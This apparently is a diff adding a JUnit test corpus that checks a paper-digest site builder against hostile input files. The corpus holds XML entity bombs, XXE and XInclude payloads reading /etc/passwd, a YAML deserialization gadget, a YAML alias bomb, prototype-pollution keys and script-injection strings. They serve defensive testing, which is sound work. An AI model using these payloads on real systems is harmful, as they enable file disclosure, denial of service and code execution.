+                "b.json", "[{\"paper\": {\"id\": \"2501.00011\", \"title\": \"JSON Title\", \"summary\": \"" + LONGER_ABSTRACT
+                        + "\", \"authors\": [{\"name\": \"C\"}, {\"name\": \"D\"}, {\"name\": \"E\"}]}}]",
+                "c.atom", FEED + "<entry><id>http://arxiv.org/abs/2501.00011v3</id><title>Atom &lt;b&gt;Title&lt;/b&gt;</title>"
+                        + "<summary>" + ABSTRACT_2 + "</summary></entry></feed>\n")
+                .then(site -> assertEquals(3, filesIn(site, "digest").size())));
+        cases.add(Case.site("same title, different arXiv ids", 2, "same-title.jsonl",
+                "{\"id\": \"2501.00012\", \"title\": \"Same Title\", \"abstract\": \"" + ABSTRACT + "\"}\n"
+                        + "{\"id\": \"2501.00013\", \"title\": \"same title!\", \"abstract\": \"" + ABSTRACT_2 + "\"}\n"));
+        cases.add(Case.site("one paper written as several id forms and versions", 1, "ids.md",
+                "## Paper V1\n\n- arxiv: 2501.00014v1\n\n" + ABSTRACT + "\n\n## Paper V2\n\n- arxiv: arXiv:2501.00014v2\n\n"
+                        + ABSTRACT + "\n\n## Paper Url\n\n- paper: https://arxiv.org/abs/2501.00014\n\n" + ABSTRACT + "\n\n"
+                        + "## Paper Pdf\n\n- pdf: https://arxiv.org/pdf/2501.00014v3.pdf\n\n" + ABSTRACT + "\n"));
+        cases.add(Case.site("same title in five formats with conflicting metadata", 1,
+                "f.txt", "Conflicted Paper\n\n" + ABSTRACT + "\n",
+                "f.md", "## conflicted paper\n\n- authors: A\n- date: 2024-01-01\n- upvotes: 3\n- tags: x\n\n" + ABSTRACT + "\n",
+                "f.json", "[{\"title\": \"CONFLICTED PAPER\", \"summary\": \"" + ABSTRACT_2 + "\", \"authors\": [\"B\", \"C\"],"
+                        + " \"publishedAt\": \"2025-02-02\", \"upvotes\": 99, \"tags\": [\"y\"]}]",
+                "f.jsonl", "{\"title\": \"Conflicted -- Paper\", \"abstract\": \"" + LONGER_ABSTRACT + "\", \"authors\": \"D, E and F\","
+                        + " \"update_date\": \"1999-12-31\"}\n",
+                "f.atom", FEED + "<entry><title>Conflicted: Paper</title><summary>" + ABSTRACT + "...</summary>"
+                        + "<published>2030-01-01T00:00:00Z</published></entry></feed>\n"));
+    }
+
+    // ---------------------------------------------------------------------------------------------
+    // XML entity expansion, external entities, DTDs and other XML tricks
+
+    private static void xmlTricks(List<Case> cases) {
+        StringBuilder laughs = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE feed [\n<!ENTITY lol \"lol\">\n");
+        for (int i = 1; i <= 9; i++) {
+            laughs.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10))
+                    .append("\">\n");
+        }
+        laughs.append("]>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>&lol9;</title><summary>")
+                .append(ABSTRACT).append("</summary></entry></feed>\n");
+        cases.add(Case.error("billion laughs", "laughs.atom", 14, "not a well-formed Atom feed", "laughs.atom",
+                laughs.toString()));
+        cases.add(Case.error("quadratic blowup: one large entity used many times", "blowup.atom", 3,
+                "not a well-formed Atom feed", "blowup.atom", "<?xml version=\"1.0\"?>\n<!DOCTYPE feed [<!ENTITY a \""
+                        + "x".repeat(100_000) + "\">]>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>"
+                        + "&a;".repeat(10_000) + "</title><summary>" + ABSTRACT + "</summary></entry></feed>\n"));
+        cases.add(Case.error("an external entity naming a local file", "secret.atom", 3, "not a well-formed Atom feed",
+                "secret.atom", "<?xml version=\"1.0\"?>\n<!DOCTYPE feed [<!ENTITY s SYSTEM \"" + DIGESTS + "secret.dat\">]>\n"
+                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>&s;</title><summary>" + ABSTRACT
+                        + "</summary></entry></feed>\n",
+                "secret.dat", "TOP-SECRET-CONTENT")
+                .then(site -> assertNowhere(site, "TOP-SECRET-CONTENT")));
+        cases.add(Case.error("an external DTD whose entity the title uses", "dtd.atom", 3, "not a well-formed Atom feed",
+                "dtd.atom", "<?xml version=\"1.0\"?>\n<!DOCTYPE feed SYSTEM \"" + DIGESTS + "evil.dtd\">\n"
+                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>&e;</title><summary>" + ABSTRACT
+                        + "</summary></entry></feed>\n",
+                "evil.dtd", "<!ENTITY e \"FROM-THE-DTD\">")
+                .then(site -> assertNowhere(site, "FROM-THE-DTD")));
+        cases.add(Case.site("an external DTD at an unreachable address is never fetched", 1, "remote-dtd.atom",
+                "<?xml version=\"1.0\"?>\n<!DOCTYPE feed SYSTEM \"http://127.0.0.1:9/evil.dtd\">\n"
+                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>A Paper</title><summary>" + ABSTRACT
+                        + "</summary></entry></feed>\n"));
+        cases.add(Case.error("parameter entities reaching out for a local file", "param.atom", 6, "not a well-formed Atom feed",
+                "param.atom", "<?xml version=\"1.0\"?>\n<!DOCTYPE feed [\n<!ENTITY % p SYSTEM \"file:///etc/passwd\">\n%p;\n]>\n"
+                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>&x;</title><summary>" + ABSTRACT
+                        + "</summary></entry></feed>\n"));
+        cases.add(Case.error("XInclude inside a summary", "xinclude.atom", 4, "not a well-formed Atom feed", "xinclude.atom",
+                FEED + "<entry><title>A Paper</title>\n<summary xmlns:xi=\"http://www.w3.org/2001/XInclude\">" + ABSTRACT
+                        + "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></summary></entry></feed>\n"));
+        cases.add(Case.error("a control character inside a DTD", "control-dtd.atom", 2, "not a well-formed Atom feed",
+                "control-dtd.atom", "<?xml version=\"1.0\"?>\n<!DOCTYPE feed [\u0001]>\n<feed xmlns=\"http://www.w3.org/2005/Atom\">"
+                        + "<entry><title>A Paper</title><summary>" + ABSTRACT + "</summary></entry></feed>\n"));
+        cases.add(Case.site("processing instructions and comments with scripts", 1, "pi.atom",
+                "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert(1)\"?>\n"
+                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><!-- <script>alert(2)</script> --><entry>"
+                        + "<title>A <?php system('id'); ?>Paper</title><summary>" + ABSTRACT + "<!-- x --></summary></entry></feed>\n"));
+        cases.add(Case.site("CDATA sections that try to close the element", 1, "cdata.atom", FEED
+                + "<entry><title><![CDATA[A ]]]]><![CDATA[> Paper]]></title><summary><![CDATA[</summary><script>alert(1)</script> "
+                + ABSTRACT + "]]></summary></entry></feed>\n")
+                .then(site -> assertPaperPage(site, "A ]]> Paper", "</summary><script>alert(1)</script> " + ABSTRACT)));
+        cases.add(Case.site(".xml files that are not Atom feeds are left alone", 0,
+                "rss.xml", "<?xml version=\"1.0\"?><rss><channel><item><title><![CDATA[<script>alert(1)</script>]]></title>"
+                        + "</item></channel></rss>",
+                "page.xml", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body onload=\"alert(2)\"><script>alert(3)</script>"
+                        + "</body></html>"));
+        cases.add(Case.error("an Atom feed declared as UTF-16", "utf16.atom", 1, "not a well-formed Atom feed", "utf16.atom",
+                "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + FEED.substring(FEED.indexOf('\n') + 1)
+                        + "<entry><title>A Paper</title><summary>" + ABSTRACT + "</summary></entry></feed>\n"));
+    }
+
+    // ---------------------------------------------------------------------------------------------
+    // JSON escapes, keys and shapes
+
+    private static void jsonTricks(List<Case> cases) {
+        cases.add(Case.site("escaped markup, control characters and noncharacters in JSON strings", 1, "escapes.json",
+                "[{\"title\": \"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\u0000\\u0007 \\ufffe\\uffff \\u2028x\","
+                        + " \"summary\": \"" + ABSTRACT + " \\u001b[31m \\u0085 \\u202e\","
+                        + " \"authors\": [{\"name\": \"\\u0000\\ufeffEve\"}], \"venue\": \"\\uffff\"}]")
+                .then(site -> assertPaperPage(site, "<script>alert(1)</script> \uFFFD\uFFFD x", ABSTRACT + " [31m \u202E")));
+        cases.add(Case.site("lone surrogates escaped in JSON strings", 1, "surrogates.json",
+                "[{\"title\": \"Lone \\ud800 High \\udfff Low\", \"summary\": \"" + ABSTRACT + " \\udbff\","
+                        + " \"authors\": [{\"name\": \"\\ud83d\"}], \"tags\": [\"\\udc00\"],"
+                        + " \"githubRepo\": \"https://github.com/a/\\ud800\", \"venue\": \"\\udfff\","
+                        + " \"upvotes\": \"\\ud800\\u0007\\uffff\", \"id\": \"\\udbff\\u0000\"}]")
+                .then(site -> assertPaperPage(site, "Lone \uFFFD High \uFFFD Low", ABSTRACT + " \uFFFD")));
+        cases.add(Case.site("noncharacters and lone surrogates in front matter", 1, "front-escapes.md", """
+                ---
+                title: "Week \\uFFFF \\uFFFE"
+                tags: ["\\uFFFE tag", "x\\uFFFF", "\\ud800"]
+                notes: "Note \\uFFFF"
+                ---
+                ## A Paper
+
+                """ + ABSTRACT + "\n"));
+        cases.add(Case.site("duplicate keys with conflicting titles", 1, "keys.json",
+                "[{\"title\": \"First\", \"title\": \"<script>alert(1)</script>\", \"summary\": \"" + ABSTRACT + "\","
+                        + " \"summary\": \"" + ABSTRACT_2 + "\"}]"));
+        cases.add(Case.site("__proto__, constructor and empty keys", 1, "proto.jsonl",
+                "{\"__proto__\": {\"polluted\": \"<script>\"}, \"constructor\": \"<b>\", \"\": \"<i>\", \"title\": \"A Paper\","
+                        + " \"abstract\": \"" + ABSTRACT + "\", \"prototype\": \"javascript:alert(1)\"}\n"));
+        cases.add(Case.error("a JSON object without a list of papers", "object.json", 1, "expected a JSON array",
+                "object.json", "{\"title\": \"<script>alert(1)</script>\", \"summary\": \"" + ABSTRACT + "\"}"));
+        cases.add(Case.site("a YAML alias bomb in front matter", 1, "aliases.md", """
+                ---
+                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
+                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
+                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
+                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
+                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
+                f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
+                tags: *f
+                ---
+                ## A Paper
+
+                """ + ABSTRACT + "\n"));
+        cases.add(Case.site("YAML tags that would build Java objects", 1, "yaml-tags.md", """
+                ---
+                title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://127.0.0.1:9/"]]]]
+                notes: !!binary PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
+                tags: !!set {"<script>": null}
+                ---
+                ## A Paper
+
+                """ + ABSTRACT + "\n"));
+    }
+
+    // ---------------------------------------------------------------------------------------------
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("corpus")
+    void strictGivesASafeSiteOrAnErrorNamingFileAndLine(Case c, @TempDir Path temp) throws IOException {
+        Path digests = temp.resolve("digests");
+        Map<String, byte[]> written = write(digests, c);
+        Path out = temp.resolve("site/papers");
+        BuildConfig config = BuildConfig.of(digests, out).withStrict(true).withBaseUrl(BASE_URL);
+        if (c.isError()) {
+            PaperDigestException e = assertThrows(PaperDigestException.class,
+                    () -> assertTimeoutPreemptively(c.limit(), () -> new SiteBuilder(BuildLog.silent()).build(config)));
+            assertTrue(e.getMessage().startsWith(c.errorFile() + ":" + c.errorLine() + ": "), e.getMessage());
+            assertTrue(e.getMessage().contains(c.errorText()), e.getMessage());
+            assertTrue(Files.notExists(out), "a failed build writes no site");
+        } else {
+            BuildResult result = assertTimeoutPreemptively(c.limit(), () -> new SiteBuilder(BuildLog.silent()).build(config));
+            assertEquals(c.papers(), result.paperCount());
+            assertSafeSite(c, out, result);
+        }
+        SafeSite.assertOnlyDigestsAndSite(temp, digests, written, out);
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("corpus")
+    void lenientGivesASafeSiteAndNamesEveryProblem(Case c, @TempDir Path temp) throws IOException {
+        Path digests = temp.resolve("digests");
+        Map<String, byte[]> written = write(digests, c);
+        Path out = temp.resolve("site/papers");
+        List<String> warnings = Collections.synchronizedList(new ArrayList<>());
+        BuildResult result = assertTimeoutPreemptively(c.limit(),
+                () -> new SiteBuilder(warningsTo(warnings)).build(BuildConfig.of(digests, out).withStrict(false)));
+        List<String> unnamed = warnings.stream().filter(w -> c.files().keySet().stream().noneMatch(f -> w.startsWith(f + ":")))
+                .filter(w -> !w.startsWith("No digests found")).toList();
+        assertEquals(List.of(), unnamed, "every warning names its file");
+        if (c.isError()) {
+            assertTrue(warnings.stream().anyMatch(w -> w.startsWith(c.errorFile() + ":" + c.errorLine() + ": ")
+                    && w.contains(c.errorText())), abbreviate(warnings.toString()));
+            SafeSite.assertSafe(out);
+            c.check().accept(out);
+        } else {
+            assertEquals(c.papers(), result.paperCount());
+            assertSafeSite(c, out, result);
+        }
+        SafeSite.assertOnlyDigestsAndSite(temp, digests, written, out);
+    }
+
+    private static void assertSafeSite(Case c, Path site, BuildResult result) {
+        SafeSite.assertSafe(site);
+        assertEquals(result.paperCount(), filesIn(site, "paper").size(), "one page per paper");
+        c.check().accept(site);
+    }
+
+    /** Writes the case's files, with {@link #DIGESTS} replaced; returns what was written. */
+    private static Map<String, byte[]> write(Path digests, Case c) throws IOException {
+        Files.createDirectories(digests);
+        Map<String, byte[]> written = new LinkedHashMap<>();
+        for (Map.Entry<String, byte[]> f : c.files().entrySet()) {
+            Path file = digests.resolve(f.getKey());
+            Files.createDirectories(file.getParent());
+            byte[] content = f.getValue();
+            String latin1 = new String(content, StandardCharsets.ISO_8859_1);
+            if (latin1.contains(DIGESTS)) {
+                content = latin1.replace(DIGESTS, digests.toUri().toString()).getBytes(StandardCharsets.ISO_8859_1);
+            }
+            Files.write(file, content);
+            written.put(f.getKey(), content);
+        }
+        return written;
+    }
+
+    private static void assertNowhere(Path site, String text) {
+        if (Files.exists(site)) {
+            SiteFiles.all(site).forEach((path, content) -> assertFalse(
+                    new String(content, StandardCharsets.UTF_8).contains(text), path + " contains " + text));
+        }
+    }
+
+    /** The paper page whose heading is {@code title} shows the title and abstract as the text they are. */
+    static void assertPaperPage(Path site, String title, String abstractText) {
+        List<Document> pages = filesIn(site, "paper").stream().map(p -> SiteFiles.parse(site, "paper/" + p))
+                .filter(d -> d.selectFirst("h1").wholeText().equals(title)).toList();
+        assertEquals(1, pages.size(), "one page titled " + abbreviate(title) + " among " + filesIn(site, "paper"));
+        assertEquals(abstractText, pages.get(0).selectFirst(".abstract-text").wholeText());
+    }
+
+    private static void onePaperPage(Path site) {
+        assertEquals(List.of("a-repeated-paper.html"), filesIn(site, "paper"));
+    }
+
+    static List<String> filesIn(Path site, String folder) {
+        return SiteFiles.all(site).keySet().stream().filter(p -> p.startsWith(folder + "/") && p.endsWith(".html"))
+                .map(p -> p.substring(folder.length() + 1)).collect(Collectors.toList());
+    }
+
+    private static BuildLog warningsTo(List<String> warnings) {
+        return new BuildLog() {
+            @Override
+            public void info(String message) {
+            }
+
+            @Override
+            public void warn(String message) {
+                warnings.add(message);
+            }
+
+            @Override
+            public void debug(String message) {
+            }
+        };
+    }
+
+    private static String abbreviate(String s) {
+        return s.length() <= 2000 ? s : s.substring(0, 1997) + "...";
+    }
+
+    static byte[] bytes(String s) {
+        return s.getBytes(StandardCharsets.UTF_8);
+    }
+
+    static byte[] concat(byte[]... parts) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        for (byte[] p : parts) {
+            out.writeBytes(p);
+        }
+        return out.toByteArray();
+    }
+}
